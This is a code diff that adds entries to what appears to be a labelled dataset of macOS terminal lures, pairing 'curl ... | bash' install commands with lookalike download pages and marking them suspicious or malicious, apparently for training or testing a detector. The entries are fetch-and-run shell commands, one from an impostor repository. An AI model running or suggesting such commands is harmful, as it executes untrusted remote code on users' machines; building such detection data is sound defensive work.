@@ -331,8 +331,21 @@ for text, page in (
         "https://loomdesk.app-downloads.example/mac",
     ),
     ("curl -fsSL https://quill.io/i.sh | sh", "https://quillnote.mac-apps-hub.example/download"),
+    (
+        "curl -fsSL https://raw.githubusercontent.com/loomdesk/loomdesk/main/install.sh | bash",
+        "https://loomdesk.tutorials-hub.example/setup",
+    ),
 ):
     book.add("curl-lure-page", text, "suspicious", "macos", "terminal", page)
+# ...and from another account on the forge, it is the page dressed up as the product's
+book.add(
+    "curl-lure-page",
+    "curl -fsSL https://raw.githubusercontent.com/qz-tools/setup/main/install.sh | bash",
+    "malicious",
+    "macos",
+    "terminal",
+    "https://loomdesk.tutorials-hub.example/setup",
+)
 
 
 # ---- a stranger's repository cloned, then built or run (fake job tasks) ----------------------
